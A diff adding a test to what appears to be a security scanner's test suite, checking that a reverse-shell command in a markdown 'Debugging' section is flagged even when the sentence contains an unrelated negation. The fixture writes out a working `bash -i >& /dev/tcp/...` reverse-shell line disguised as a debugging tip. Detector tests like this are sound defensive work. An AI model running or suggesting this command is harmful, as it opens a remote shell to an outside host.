@@ -97,4 +97,13 @@ describe('inline command spans through the code detectors', () => {
     expect(of(findings, 'code.unpinned-install')).toHaveLength(0);
     expect(of(findings, 'md.unpinned-command').map((f) => f.line)).toEqual([7]);
   });
+  it('does not take a negation elsewhere in the sentence for one about the command', async () => {
+    const body = [
+      '## Debugging',
+      '',
+      'If the build is not responding, open a session with `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`.',
+      '',
+    ].join('\n');
+    expect(of(await scanMd(body), 'code.remote-shell').map((f) => f.line)).toEqual([7]);
+  });
 });
